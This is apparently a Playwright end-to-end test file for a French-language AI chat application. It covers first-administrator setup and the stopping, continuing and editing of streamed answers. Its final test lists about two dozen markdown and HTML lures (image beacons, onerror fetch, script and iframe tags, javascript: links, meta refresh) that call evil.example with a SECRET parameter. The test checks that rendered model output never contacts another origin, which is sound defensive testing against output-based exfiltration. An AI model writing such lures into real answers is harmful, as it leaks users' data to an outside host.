import { type Page, expect, test } from '@playwright/test'
import { answered, checkAccess, lastAnswer, say, type } from './people.ts'
import { addresses } from './settings.ts'

// A second Bassin beside the first: its own folder, its own port, empty, with a provider (e2e/providers) that speaks slowly.
const base = addresses.empty

async function signUp(page: Page, name: string): Promise<void> {
  await page.goto(`${base}/sign-up`)
  await page.locator('[name=name]').fill(name)
  await page.locator('[name=email]').fill(`provider-${Date.now()}@example.org`)
  await page.locator('[name=password]').fill('une phrase assez longue')
  await page.locator('form [type=submit]').last().click()
  await page.waitForURL((url) => url.pathname === '/')
}

test.describe.configure({ mode: 'serial' })

test('an empty instance asks for its first administrator, once', async ({ page }) => {
  await page.goto(base)
  await expect(page).toHaveURL(/first-admin/)
  await checkAccess(page)
  await page.locator('[name=organisation]').fill('Agence des Essais')
  await page.locator('[name=name]').fill('Hélène Essai')
  await page.locator('[name=email]').fill('helene.essai@example.org')
  await page.locator('[name=password]').fill('une phrase assez longue')
  await page.locator('form [type=submit]').last().click()
  await page.waitForURL((url) => url.pathname === '/')
  await expect(page.getByText('Vous parlez à une IA.')).toBeVisible()
  await page.context().clearCookies()
  await page.goto(`${base}/first-admin`)
  await expect(page).not.toHaveURL(/first-admin/)
})

const written = (page: Page) => lastAnswer(page).locator('.answer').first()
const long = Array.from({ length: 40 }, (_, at) => `mot${at}`).join(' ')

test('an answer is stopped, continued, reloaded in its middle, followed in two tabs, edited and written anew', async ({
  page,
  context,
}) => {
  await signUp(page, 'Lucie Attente')
  await type(page, long)
  await expect(written(page)).toHaveText(/You said: mot0/)
  await page.getByRole('button', { name: 'Arrêter' }).click()
  await expect(page.getByText('Vous avez arrêté la réponse.')).toBeVisible()
  await expect(written(page)).not.toHaveText(/mot39/)
  await page.getByRole('button', { name: 'Continuer' }).click()
  await answered(page)
  await expect(page.getByText('Vous avez arrêté la réponse.')).toHaveCount(0)

  await type(page, `encore ${long}`)
  await expect(written(page)).toHaveText(/You said: encore mot/)
  const other = await context.newPage()
  await other.goto(page.url())
  await page.reload()
  for (const tab of [page, other]) {
    await answered(tab)
    await expect(tab.locator('[data-turn]')).toHaveCount(2)
    await expect(written(tab)).toHaveText(/^You said: encore mot0 .*mot39$/)
  }
  await other.close()

  await page.getByRole('button', { name: 'Modifier' }).last().click()
  await page.getByRole('textbox').first().fill('autre question')
  await page.getByRole('button', { name: 'Renvoyer' }).click()
  await expect(lastAnswer(page).getByText('You said: autre question')).toBeVisible()
  await answered(page)
  await page.getByRole('button', { name: 'Refaire la réponse' }).last().click()
  await answered(page)
  await expect(page.locator('[data-turn]')).toHaveCount(2)
  await expect(lastAnswer(page).getByText('You said: autre question')).toBeVisible()
})

/** What a model may write to make a browser call out (threat T5). */
const lures = [
  '![x](https://evil.example/a.png?d=SECRET)',
  '![x][ref]\n\n[ref]: https://evil.example/b.png?d=SECRET',
  '<img src="https://evil.example/c.png?d=SECRET">',
  '<img src=x onerror="fetch(\'https://evil.example/d?d=SECRET\')">',
  '<script src="https://evil.example/e.js"></script>',
  '<iframe src="https://evil.example/f"></iframe>',
  '<link rel="stylesheet" href="https://evil.example/g.css">',
  '<style>@import url("https://evil.example/h.css")</style>',
  '<div style="background:url(https://evil.example/i.png)">a</div>',
  '<svg><image href="https://evil.example/j.png"/></svg>',
  '<object data="https://evil.example/k"></object>',
  '<video src="https://evil.example/l.mp4" autoplay></video>',
  '<form action="https://evil.example/m"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/n">',
  '<base href="https://evil.example/">',
  '[clic](javascript:fetch("https://evil.example/o"))',
  '[clic](data:text/html,<script>fetch("https://evil.example/p")</script>)',
  '![x](//evil.example/q.png)',
  '![x](http://evil.example:8080/r.png)',
  '[![x](https://evil.example/s.png)](https://evil.example/t)',
  '```mermaid\ngraph TD; A["<img src=https://evil.example/u.png>"]\n```',
  '$\\includegraphics{https://evil.example/v.png}$',
  '<a href="https://evil.example/w" ping="https://evil.example/x">a</a>',
]

test('nothing that a model writes makes the page call another origin', async ({ page }) => {
  const outside: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(base) && !request.url().startsWith('data:') && !request.url().startsWith('blob:'))
      outside.push(request.url())
  })
  await signUp(page, 'Noé Leurre')
  for (const group of [0, 6, 12, 18]) {
    const words = lures.slice(group, group + 6).join('\n\n')
    await say(page, words)
    await expect(lastAnswer(page).locator('.answer').first()).toContainText('You said')
  }
  expect(outside).toEqual([])
  expect(await page.locator('.answer :is(img, iframe, script, object, embed, video, form, style, link, svg)').count()).toBe(0)
  for (const href of await page
    .locator('.answer a')
    .evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''))) {
    expect(href).toMatch(/^(https:\/\/|\/)/)
  }
})
